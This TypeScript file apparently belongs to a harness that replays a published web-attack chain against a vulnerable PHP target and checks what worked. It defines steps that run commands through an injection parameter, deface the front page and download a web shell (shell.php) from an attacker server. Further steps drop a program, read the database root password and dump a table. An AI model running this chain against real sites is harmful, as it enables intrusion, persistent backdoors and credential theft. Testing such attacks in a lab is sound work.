/** The article's attack, step by step. Each step is judged by what came back to the attacker, by nothing else. */
import { createHash, randomBytes } from 'node:crypto';
import { printable } from '../../src/kernel/index.ts';
import { type Answer, get } from '../http-client.ts';
import { ATTACKER_URL } from './attacker-server.ts';
import * as payload from './payloads.ts';

/**
 * `worked`: the attacker has seen that it did; `refused`: the site answered, and it had not happened;
 * `cut off`: no answer came.
 */
export type Outcome = 'worked' | 'refused' | 'cut off';

export interface Target {
  readonly url: string;
  /** The secret to be stolen, to tell a true loot from a false one. */
  readonly password: string;
  /** Names in the guest book, likewise. */
  readonly guests: readonly string[];
  /** SHA-256 of the program that is dropped, to know it by. */
  readonly tool: string;
}

export interface Attempt extends Target {
  readonly patienceMs: number;
  readonly signal: AbortSignal;
}

export interface StepResult {
  readonly outcome: Outcome;
  /** What came back, in a line that is safe to print. */
  readonly evidence: string;
}

export interface StepDefinition {
  readonly id: 'execute' | 'deface' | 'download' | 'use' | 'drop' | 'password' | 'processes' | 'database';
  /** What the attacker does, in words. */
  readonly title: string;
  /** As the attacker would type it. */
  readonly request: string;
  run(attempt: Attempt): Promise<StepResult>;
}

const UID = /uid=\d+\([\w-]+\)[^<\n]*/;

function ask({ url, patienceMs, signal }: Attempt, path: string): Promise<Answer> {
  return get(url + path, { timeoutMs: patienceMs, signal });
}

const short = (text: string) => printable(text.length > 120 ? `${text.slice(0, 117)}...` : text);
const cutOff = (answer: Answer): StepResult => ({
  outcome: 'cut off',
  evidence: short(answer.failure ?? ''),
});
const refused = (evidence: string): StepResult => ({ outcome: 'refused', evidence: short(evidence) });
const worked = (evidence: string): StepResult => ({ outcome: 'worked', evidence: short(evidence) });

/** A command by the shell when it is there, otherwise by the hole, as an attacker would. */
async function command(attempt: Attempt, words: string) {
  const byShell = await ask(attempt, payload.throughShell(words));
  if (byShell.status === 200) return { answer: byShell, output: byShell.body.trim(), by: 'shell.php' };
  const byHole = await ask(attempt, payload.commandThroughHole(words));
  return { answer: byHole, output: payload.markedOutput(byHole.body), by: 'the hole' };
}

const execute: StepDefinition = {
  id: 'execute',
  title: 'run a command through the hole',
  request: `/?shell=${payload.IDENTIFY}`,
  async run(attempt) {
    const answer = await ask(attempt, payload.throughHole(payload.IDENTIFY));
    if (answer.failure !== null) return cutOff(answer);
    const found = UID.exec(answer.body)?.[0];
    return found === undefined ? refused(`status ${answer.status}, no uid= in the page`) : worked(found);
  },
};

const deface: StepDefinition = {
  id: 'deface',
  title: 'deface the front page',
  request: `/?shell=${payload.DEFACE}`,
  async run(attempt) {
    const answer = await ask(attempt, payload.throughHole(payload.DEFACE));
    if (answer.failure !== null) return cutOff(answer);
    const page = await ask(attempt, '/');
    if (page.failure !== null) return cutOff(page);
    if (page.body.trim() === payload.DEFACEMENT) return worked(`the front page reads: ${page.body.trim()}`);
    return refused('the front page is what it was');
  },
};

const download: StepDefinition = {
  id: 'download',
  title: "download shell.php from the attacker's server",
  request: `/?shell=${payload.DOWNLOAD(ATTACKER_URL)}`,
  async run(attempt) {
    const answer = await ask(attempt, payload.throughHole(payload.DOWNLOAD(ATTACKER_URL)));
    if (answer.failure !== null) return cutOff(answer);
    const size = payload.markedOutput(answer.body) ?? 'nothing';
    return isSize(size) ? worked(`${size} bytes written`) : refused('the file could not be written');
  },
};

const isSize = (text: string) => /^[1-9]\d*$/.test(text);

const use: StepDefinition = {
  id: 'use',
  title: 'use the shell',
  request: '/shell.php?cmd=id',
  async run(attempt) {
    const answer = await ask(attempt, payload.throughShell('id'));
    if (answer.failure !== null) return cutOff(answer);
    const found = UID.exec(answer.body)?.[0];
    return found === undefined ? refused(`/shell.php answers ${answer.status}`) : worked(found);
  },
};

const drop: StepDefinition = {
  id: 'drop',
  title: 'drop a program and run it',
  request: `/?shell=${payload.DROP(ATTACKER_URL, 'WORD')}`,
  async run(attempt) {
    const word = randomBytes(8).toString('hex');
    const answer = await ask(attempt, payload.throughHole(payload.DROP(ATTACKER_URL, word)));
    if (answer.failure !== null) return cutOff(answer);
    const [size = '', ...output] = (payload.markedOutput(answer.body) ?? '').split('\n');
    if (!isSize(size)) return refused('the file could not be written');
    // Nobody could know the word before; and the program names itself by its own bytes.
    const proof = [
      `${createHash('sha256').update(word).digest('hex')}  -`,
      `${attempt.tool}  /proc/self/exe`,
    ];
    if (output.join('\n') === proof.join('\n'))
      return worked(`${size} bytes written; it says what it is: sha256 ${attempt.tool.slice(0, 12)}…`);
    return refused(`${size} bytes written; ${output[0] ?? 'no output'}`);
  },
};

const password: StepDefinition = {
  id: 'password',
  title: "read the database's root password",
  request: `/shell.php?cmd=${payload.READ_PASSWORD}`,
  async run(attempt) {
    const { answer, output, by } = await command(attempt, payload.READ_PASSWORD);
    if (answer.failure !== null) return cutOff(answer);
    if (output === attempt.password) return worked(`${output.length} characters, the right ones, by ${by}`);
    return refused(`not what came back by ${by}`);
  },
};

const processes: StepDefinition = {
  id: 'processes',
  title: 'look at the running processes',
  request: '/shell.php?cmd=for p in /proc/[0-9]*; do …',
  async run(attempt) {
    const { answer, output, by } = await command(attempt, payload.LIST_PROCESSES);
    if (answer.failure !== null) return cutOff(answer);
    const lines = (output ?? '').split('\n').map((line) => line.trim());
    const apache = lines.find((line) => line.includes('apache2'));
    return apache === undefined ? refused(`no list by ${by}`) : worked(`${apache}, by ${by}`);
  },
};

const database: StepDefinition = {
  id: 'database',
  title: 'read the database',
  request: '/?shell=mysqli_query(…, "SELECT name FROM guests");',
  async run(attempt) {
    const answer = await ask(attempt, payload.throughHole(payload.READ_DATABASE));
    if (answer.failure !== null) return cutOff(answer);
    const output = payload.markedOutput(answer.body);
    return output === attempt.guests.join(', ') ? worked(`guests: ${output}`) : refused('no rows came back');
  },
};

/**
 * The attack in stages. Steps of one stage do not wait for each other when the attacker hurries: two
 * connections at once, as any script would.
 */
export const STAGES: readonly (readonly StepDefinition[])[] = [
  [execute],
  [deface, download],
  [use, drop],
  [password],
  [processes],
  [database],
];

export type StepId = StepDefinition['id'];
